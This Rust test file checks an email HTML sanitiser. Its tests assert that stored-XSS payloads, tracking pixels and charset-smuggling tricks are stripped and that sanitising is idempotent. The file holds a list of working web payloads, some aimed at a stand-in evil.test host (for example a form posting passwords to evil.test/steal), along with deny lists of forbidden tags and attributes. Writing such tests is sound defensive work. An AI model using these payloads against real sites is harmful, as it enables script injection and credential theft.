//! Hostile HTML from mail (SECURITY.md item 9): nothing that runs or fetches survives, and
//! sanitising twice changes nothing.

use otklik_email::{ParseLimits, html_to_text, parse_inbound, sanitize_html};
use proptest::prelude::*;

/// Resolves `cid:` references the way the app is expected to: to paths on our own origin.
fn resolve(content_id: &str) -> Option<String> {
    (content_id != "missing@x").then(|| format!("/attachments/{content_id}"))
}

fn sanitize(html: &str) -> String {
    sanitize_html(html, &resolve)
}

/// (name, hostile HTML) from the classes of stored XSS seen in helpdesks.
const HOSTILE: &[(&str, &str)] = &[
    ("script", "<p>hi</p><script>alert(1)</script>"),
    ("script in caps", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>"),
    ("onerror", "<img src=x onerror=alert(1)>"),
    ("onload on body", "<body onload=alert(1)>text</body>"),
    (
        "onmouseover",
        "<a href=\"https://ok.test\" onmouseover=\"alert(1)\">x</a>",
    ),
    (
        "javascript url",
        "<a href=\"javascript:alert(1)\">click</a>",
    ),
    (
        "javascript url with entities",
        "<a href=\"jav&#x09;ascript&colon;alert(1)\">click</a>",
    ),
    (
        "javascript url upper",
        "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
    ),
    ("vbscript url", "<a href=\"vbscript:msgbox(1)\">click</a>"),
    (
        "data url link",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    ),
    (
        "data url image",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">",
    ),
    (
        "svg onload",
        "<svg onload=alert(1)><circle r=1></circle></svg>",
    ),
    (
        "svg foreignObject",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    ),
    (
        "svg use href",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    ),
    (
        "math mXSS",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    ),
    (
        "noscript mXSS",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    ),
    (
        "base",
        "<base href=\"https://evil.test/\"><a href=\"/x\">x</a>",
    ),
    (
        "meta refresh",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test\">",
    ),
    (
        "css expression",
        "<div style=\"width: expression(alert(1))\">x</div>",
    ),
    (
        "css url",
        "<div style=\"background-image: url(https://evil.test/track.png)\">x</div>",
    ),
    (
        "css escaped url",
        "<div style=\"background: u\\72 l(https://evil.test/t.png)\">x</div>",
    ),
    (
        "css import",
        "<style>@import url(https://evil.test/x.css);</style><p>x</p>",
    ),
    (
        "css behavior",
        "<p style=\"behavior: url(x.htc); -moz-binding: url(x.xml#y)\">x</p>",
    ),
    (
        "srcdoc",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    ),
    (
        "object",
        "<object data=\"https://evil.test/x.swf\"></object><embed src=x.swf>",
    ),
    (
        "form",
        "<form action=\"https://evil.test/steal\"><input name=password><button>Go</button></form>",
    ),
    (
        "link stylesheet",
        "<link rel=stylesheet href=https://evil.test/x.css>",
    ),
    (
        "unclosed tags",
        "<div><a href=\"https://ok.test\"><img src=\"https://t.test/p.gif\" alt=\"Logo\"<script>alert(1)",
    ),
    (
        "unclosed attribute",
        "<img src=\"x\" alt=\"a onerror=alert(1)//",
    ),
    (
        "comment trick",
        "<!--<img src=x onerror=alert(1)>--><p>after</p>",
    ),
    (
        "conditional comment",
        "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    ),
    ("template", "<template><script>alert(1)</script></template>"),
    (
        "nested script split",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
    ),
    (
        "remote image pixel",
        "<img src=\"https://tracker.test/open.gif?u=1\" width=1 height=1>",
    ),
    (
        "protocol relative image",
        "<img src=\"//tracker.test/open.gif\" alt=\"\">",
    ),
    ("backslash image", "<img src=\"/\\tracker.test/open.gif\">"),
    (
        "srcset",
        "<img srcset=\"https://tracker.test/a.gif 1x\" alt=x>",
    ),
    (
        "background attribute",
        "<table background=\"https://tracker.test/bg.gif\"><tr><td>x</td></tr></table>",
    ),
    (
        "id clobbering",
        "<img id=\"location\" name=\"cookie\"><form id=x></form>",
    ),
];

/// Elements that must never come out of the sanitiser.
const FORBIDDEN_ELEMENTS: &[&str] = &[
    "script",
    "style",
    "svg",
    "math",
    "iframe",
    "frame",
    "object",
    "embed",
    "applet",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "base",
    "meta",
    "link",
    "template",
    "noscript",
    "foreignobject",
    "use",
    "animate",
    "set",
];

/// Attributes that must never come out: handlers and ways to fetch or clobber.
const FORBIDDEN_ATTRIBUTES: &[&str] = &[
    "srcdoc",
    "srcset",
    "background",
    "id",
    "name",
    "formaction",
    "action",
    "xlink:href",
    "http-equiv",
    "poster",
    "data",
];

/// Reads the output as a browser's tokenizer would and checks every tag: no forbidden element,
/// no handler or forbidden attribute, URLs only of the allowed kinds, no fetching CSS. Text
/// content may say anything ("alert(1)" as text is harmless).
fn assert_harmless(name: &str, output: &str) {
    for tag in tags_of(output) {
        assert!(
            !FORBIDDEN_ELEMENTS.contains(&tag.name.as_str()),
            "{name}: <{}> survived in {output:?}",
            tag.name
        );
        for (attribute, value) in &tag.attributes {
            let value = value.trim().to_lowercase();
            assert!(
                !attribute.starts_with("on") && !FORBIDDEN_ATTRIBUTES.contains(&attribute.as_str()),
                "{name}: attribute {attribute} survived in {output:?}"
            );
            match attribute.as_str() {
                "href" => assert!(
                    ["https://", "http://", "mailto:", "tel:"]
                        .iter()
                        .any(|ok| value.starts_with(ok)),
                    "{name}: href {value:?} survived in {output:?}"
                ),
                "src" => assert!(
                    value.starts_with('/') && !value.starts_with("//") && !value.contains('\\'),
                    "{name}: src {value:?} survived in {output:?}"
                ),
                "style" => assert!(
                    ["url(", "expression", "\\", "@import", "behavior", "binding"]
                        .iter()
                        .all(|bad| !value.contains(bad)),
                    "{name}: style {value:?} survived in {output:?}"
                ),
                _ => {}
            }
        }
    }
}

struct SeenTag {
    name: String,
    attributes: Vec<(String, String)>,
}

/// Start tags of a document, from html5ever's tokenizer.
fn tags_of(html: &str) -> Vec<SeenTag> {
    use html5ever::tendril::StrTendril;
    use html5ever::tokenizer::states::RawKind;
    use html5ever::tokenizer::{
        BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
    };
    use std::cell::RefCell;

    struct Sink(RefCell<Vec<SeenTag>>);
    impl TokenSink for Sink {
        type Handle = ();
        fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
            if let Token::TagToken(tag) = token
                && tag.kind == TagKind::StartTag
            {
                let name = tag.name.to_string();
                self.0.borrow_mut().push(SeenTag {
                    name: name.clone(),
                    attributes: tag
                        .attrs
                        .iter()
                        .map(|attr| (attr.name.local.to_string(), attr.value.to_string()))
                        .collect(),
                });
                return match name.as_str() {
                    "script" => TokenSinkResult::RawData(RawKind::ScriptData),
                    "style" | "xmp" | "iframe" | "noembed" | "noframes" | "noscript" => {
                        TokenSinkResult::RawData(RawKind::Rawtext)
                    }
                    "title" | "textarea" => TokenSinkResult::RawData(RawKind::Rcdata),
                    _ => TokenSinkResult::Continue,
                };
            }
            TokenSinkResult::Continue
        }
    }
    let tokenizer = Tokenizer::new(Sink(RefCell::default()), TokenizerOpts::default());
    let input = BufferQueue::default();
    input.push_back(StrTendril::from_slice(html));
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.0.into_inner()
}

#[test]
fn the_checker_itself_catches_what_it_must() {
    for bad in [
        "<script>x</script>",
        "<img src=x onerror=y>",
        "<a href=\"javascript:x\">",
        "<div style=\"background:url(x)\">",
        "<img src=\"https://t.test/p.gif\">",
    ] {
        let caught = std::panic::catch_unwind(|| assert_harmless("probe", bad));
        assert!(caught.is_err(), "{bad} was not caught");
    }
    assert_harmless(
        "text",
        "<p>alert(1) onerror=x javascript:y</p><img alt=\"<script>\">",
    );
}

#[test]
fn nothing_hostile_survives_sanitising() {
    for (name, html) in HOSTILE {
        let output = sanitize(html);
        assert_harmless(name, &output);
        assert_eq!(
            sanitize(&output),
            output,
            "{name}: a second pass changed the output"
        );
    }
}

#[test]
fn harmless_content_and_layout_survive() {
    let output = sanitize(
        "<table width=\"600\" cellpadding=\"4\"><tr><td bgcolor=\"#eeeeee\" \
         style=\"color: #333; font-weight: bold; position: fixed\">Order <b>42</b></td></tr></table>\
         <p>Привет, <a href=\"https://shop.test/track?id=1\">track</a> or \
         <a href=\"mailto:support@shop.test\">write</a></p>",
    );
    assert!(output.contains("Order <b>42</b>"), "{output}");
    assert!(output.contains("Привет"), "{output}");
    assert!(output.contains("bgcolor=\"#eeeeee\""), "{output}");
    assert!(output.contains("color:#333"), "{output}");
    assert!(output.contains("font-weight:bold"), "{output}");
    assert!(!output.contains("position"), "{output}");
    assert!(
        output.contains("href=\"https://shop.test/track?id=1\""),
        "{output}"
    );
    assert!(
        output.contains("href=\"mailto:support@shop.test\""),
        "{output}"
    );
}

#[test]
fn links_open_in_a_new_tab_without_referrer_or_ranking() {
    let output = sanitize("<a href=\"https://shop.test\" target=\"_self\" rel=\"opener\">x</a>");
    assert!(
        output.contains("rel=\"noopener noreferrer nofollow\""),
        "{output}"
    );
    assert!(output.contains("target=\"_blank\""), "{output}");
    assert!(
        !output.contains("_self") && !output.contains("\"opener\""),
        "{output}"
    );
}

#[test]
fn relative_and_cid_links_are_dropped_but_their_text_stays() {
    let output =
        sanitize("<a href=\"/admin\">one</a><a href=\"cid:x@y\">two</a><a href=\"#top\">three</a>");
    assert!(!output.contains("href"), "{output}");
    assert!(output.contains("one") && output.contains("two") && output.contains("three"));
}

#[test]
fn cid_images_are_rewritten_and_unknown_ones_lose_their_source() {
    let output = sanitize(
        "<img src=\"cid:logo@shop\" alt=\"Logo\"><img src=\"CID:photo%40shop\" alt=\"Photo\">\
         <img src=\"cid:missing@x\" alt=\"Gone\">",
    );
    assert!(
        output.contains("src=\"/attachments/logo@shop\""),
        "{output}"
    );
    assert!(
        output.contains("src=\"/attachments/photo@shop\""),
        "{output}"
    );
    assert!(output.contains("alt=\"Gone\""), "{output}");
    assert_eq!(output.matches("src=").count(), 2, "{output}");
    assert_eq!(sanitize(&output), output);
}

#[test]
fn remote_images_are_removed_but_keep_their_alt_text() {
    let output =
        sanitize("<p><img src=\"https://cdn.shop.test/banner.png\" alt=\"Spring sale\"></p>");
    assert!(!output.contains("src="), "{output}");
    assert!(output.contains("alt=\"Spring sale\""), "{output}");
}

#[test]
fn a_resolver_returning_a_script_url_is_not_trusted() {
    let output = sanitize_html("<img src=\"cid:a@b\">", &|_| {
        Some("javascript:alert(1)".to_owned())
    });
    assert_eq!(output, "<img>");
}

#[test]
fn very_deep_html_is_shown_as_its_text() {
    let html = format!(
        "{}<b>deep</b> text<script>alert(1)</script>{}",
        "<div>".repeat(5_000),
        "</div>".repeat(5_000)
    );
    let output = sanitize(&html);
    assert!(
        output.starts_with("<pre>"),
        "{}",
        &output[..output.len().min(200)]
    );
    assert!(output.contains("deep text"), "{output}");
    assert!(!output.contains("alert"), "{output}");
    assert_harmless("deep", &output);
    assert_eq!(sanitize(&output), output);
    assert_eq!(html_to_text(&html), "deep text");
}

#[test]
fn html_to_text_keeps_words_and_drops_code() {
    let text = html_to_text(
        "<html><head><title>T</title><style>p{color:red}</style></head><body>\
         <table><tr><td>Заказ</td><td>№ 42</td></tr></table>\
         <p>Hello&nbsp;<b>world</b></p><script>alert(1)</script></body></html>",
    );
    for word in ["Заказ", "№ 42", "Hello", "world"] {
        assert!(text.contains(word), "{word} missing in {text:?}");
    }
    for code in ["color:red", "alert", "<"] {
        assert!(!text.contains(code), "{code} kept in {text:?}");
    }
}

#[test]
fn charset_tricks_in_mail_do_not_smuggle_script_past_the_sanitiser() {
    // UTF-7: "+ADw-script+AD4-" decodes to "<script>".
    let utf7 = "From: a@example.com\r\nSubject: x\r\nContent-Type: text/html; charset=utf-7\r\n\r\n\
        +ADw-p+AD4-hi+ADw-/p+AD4-+ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n";
    // ISO-2022-JP: escape sequences inside a tag name vanish when decoded.
    let iso2022 = b"From: a@example.com\r\nSubject: x\r\nContent-Type: text/html; charset=iso-2022-jp\r\n\r\n\
        <p>hi</p><scr\x1b(Bipt>alert(1)</scr\x1b(Bipt><img src=x on\x1b(Berror=alert(1)>\r\n";
    for raw in [utf7.as_bytes(), &iso2022[..]] {
        let email = parse_inbound(raw, &ParseLimits::default()).unwrap();
        let html = email.html.expect("an html body");
        let output = sanitize(&html);
        assert_harmless("charset", &output);
        assert!(output.contains("hi"), "{output}");
    }
}

/// Pieces of tag soup for the property test.
const FRAGMENTS: &[&str] = &[
    "<p>",
    "</p>",
    "<div style=\"color:red\">",
    "</div>",
    "<a href=\"https://x.test\">",
    "<a href=\"javascript:alert(1)\">",
    "</a>",
    "<img src=\"cid:a@b\" alt=\"a\">",
    "<img src=\"https://t.test/p.gif\">",
    "<img src=\"/attachments/1\">",
    "<script>",
    "</script>",
    "<style>",
    "</style>",
    "<svg>",
    "<math>",
    "<table>",
    "<tr>",
    "<td>",
    "</table>",
    "<b>",
    "</b>",
    "<i>",
    "<ul><li>",
    "<pre>",
    "</pre>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<noscript>",
    "<template>",
    "<select>",
    "<option>",
    "<textarea>",
    "<title>",
    "<iframe srcdoc=\"x\">",
    "<font color=red>",
    "<br>",
    "<hr>",
    "\n",
    "  ",
    "text",
    "Привет",
    "&amp;",
    "&lt;",
    "&#60;",
    "&nbsp;",
    "<",
    ">",
    "\"",
    "'",
    "=",
    " onerror=alert(1) ",
    "<form>",
    "<button>",
    "<p title=\"",
    "<td style=\"background:url(x)\">",
    "<span style=\"width:10px;position:absolute\">",
];

fn tag_soup() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(FRAGMENTS), 0..60).prop_map(|parts| parts.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn sanitising_tag_soup_is_harmless_and_idempotent(html in tag_soup()) {
        let once = sanitize(&html);
        prop_assert_eq!(sanitize(&once), once.clone());
        assert_harmless(&html, &once);
    }

    #[test]
    fn sanitising_any_text_is_idempotent(html in any::<String>()) {
        let once = sanitize(&html);
        prop_assert_eq!(sanitize(&once), once);
    }
}
